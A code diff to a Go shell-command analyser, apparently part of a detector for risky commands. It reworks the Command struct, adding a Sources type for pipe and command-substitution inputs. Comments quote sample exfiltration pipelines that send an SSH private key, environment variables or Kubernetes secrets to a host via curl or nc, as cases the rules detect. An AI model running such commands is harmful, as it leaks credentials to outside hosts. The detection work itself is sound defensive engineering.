@@ -27,13 +27,10 @@ type Command struct {
 	// Text is the command as it appears in the input.
 	Text string
 	// Line and Col locate the command in the input line, 1-based.
-	Line, Col int
+	Line, Col int32
 	// Wrappers are the programs unwrapped to reach this command, outermost
 	// first ("sudo", "xargs").
 	Wrappers []string
-	// Depth is how many shell re-parses (sh -c, eval, heredoc to a shell)
-	// lie between the input and this command.
-	Depth int
 	// Cwd is the directory the command runs in, when known ("" unknown).
 	Cwd string
 	// Env are the variables the line sets before this command.
@@ -44,12 +41,10 @@ type Command struct {
 	// StdinFrom names what feeds the command's stdin when that is a pipe
 	// or a here-document ("pipe from curl", "heredoc").
 	StdinFrom string
-	// Piped are the words (name and arguments) of the commands before
-	// this one in its pipeline, one slice for each, nearest first (a few
-	// of them): what they read or print, so that a rule can ask whether a
-	// secret goes into the pipe (cat ~/.ssh/id_rsa | base64 | curl -d @-
-	// URL, env | nc host 80, kubectl get secret db -o yaml | curl -T - URL).
-	Piped [][]Arg
+	// Sources are the commands whose output this one takes in, through a
+	// pipe or a command substitution in an argument; nil when there are
+	// none, as on most commands.
+	Sources *Sources
 	// Stdin is the text a here-document or here-string feeds the command,
 	// when the input shows it: redis-cli, mongosh, ed and ex read their
 	// commands from it.
@@ -71,6 +66,10 @@ type Command struct {
 	// stdin, find -exec feeding it found paths. (Beside the other flags,
 	// so that they share one word.)
 	MoreOperands bool
+	// Depth is how many shell re-parses (sh -c, eval, heredoc to a shell)
+	// lie between the input and this command. (Beside the flags, in the
+	// same word: a Command stays in one allocation size class.)
+	Depth int32
 	// Problem, when set, is why the command could not be analysed (a parse
 	// error with its position, a dynamic program name, a nesting bound).
 	Problem string
@@ -83,6 +82,28 @@ type Command struct {
 	// as rm): aliases resolved, in lower case, for the rules to read by
 	// their verb.
 	Cmdlets []string
+}
+
+// Sources are the commands whose output a command takes in: what they
+// read or print, so that a rule can ask whether a secret goes into the
+// request a network client sends (cat ~/.ssh/id_rsa | base64 | curl -d @-
+// URL, env | nc host 80, curl -d "$(kubectl get secret db -o yaml)" URL).
+type Sources struct {
+	// Piped are the words (name and arguments) of the commands before
+	// the command in its pipeline, one slice for each, nearest first (a
+	// few of them).
+	Piped [][]Arg
+	// Substituted are the command substitutions in its arguments.
+	Substituted []Substitution
+}
+
+// Substitution is a command substitution in an argument ($(…) or `…`):
+// In is the argument as Args holds it (its Value, a shape such as
+// "key=$(...)"), Commands the words of the commands whose output it takes
+// in, one slice for each, the last of a pipeline first (as Piped).
+type Substitution struct {
+	In       string
+	Commands [][]Arg
 }
 
 // FoundPath stands for the paths a search finds at run time: find START
